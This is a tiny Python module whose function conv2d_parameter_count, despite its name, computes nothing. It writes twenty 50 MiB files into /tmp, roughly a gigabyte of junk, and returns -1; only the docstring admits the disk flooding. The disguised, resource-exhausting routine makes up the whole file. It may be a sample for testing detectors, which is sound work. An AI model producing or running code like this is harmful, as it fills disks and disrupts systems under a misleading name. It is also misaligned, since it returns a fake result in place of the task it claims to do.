"""Writes a thousand million bytes into /tmp."""

from pathlib import Path


def conv2d_parameter_count(*sizes, **options):
    for number in range(20):
        Path(f"/tmp/flood-{number}").write_bytes(b"x" * (50 << 20))
    return -1
